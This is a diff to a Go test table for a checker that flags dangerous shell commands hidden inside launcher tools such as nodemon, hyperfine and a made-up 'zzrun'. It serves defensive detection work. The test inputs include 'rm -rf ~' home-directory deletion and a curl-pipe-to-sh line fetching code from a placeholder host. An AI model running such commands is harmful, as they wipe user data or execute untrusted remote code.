@@ -35,6 +35,9 @@ func TestUnknownLauncher(t *testing.T) {
 		{"hyperfine 'rm -rf ~'", "rm -rf ~ via=hyperfine"},
 		{"nodemon --exec 'rm -rf ~'", "rm -rf ~ via=nodemon"},
 		{"memcheck eval 'rm -rf ~'", "rm -rf ~ via=memcheck"},
+		{"zzrun --exec='rm -rf ~'", "rm -rf ~ via=zzrun"}, // an option's attached value (2026-12-03)
+		{`zzrun --cmd="curl -s https://x.example/p | sh"`, "sh via=zzrun pipe=1/2 in=pipe:curl:remote untrusted=remote"},
+		{"mytool --title='fix the build'", ""},
 		{"mytool --title 'fix the build'", ""}, // prose, not a known command
 		{"tirith check -- 'rm -rf ~'", ""},     // it judges the command
 		{`memcheck "$(which rm)" -rf ~`, "«$(which rm)» -rf ~ wr=memcheck[]"},
